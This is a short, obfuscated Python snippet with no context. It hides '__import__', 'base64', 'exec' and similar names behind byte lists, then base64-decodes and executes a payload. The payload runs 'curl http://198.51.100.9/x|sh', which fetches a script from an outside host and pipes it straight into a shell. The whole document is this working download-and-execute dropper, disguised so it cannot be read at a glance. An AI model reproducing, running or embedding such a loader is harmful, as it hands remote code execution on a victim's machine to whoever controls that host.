____ = eval(bytes([95,95,105,109,112,111,114,116,95,95]).decode())
_____ = getattr(____(bytes([98,97,115,101,54,52]).decode()), bytes([98,54,52,100,101,99,111,100,101]).decode())
______ = getattr(____(bytes([98,117,105,108,116,105,110,115]).decode()), bytes([101,120,101,99]).decode())
______(_____("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3h8c2giKQ=="))
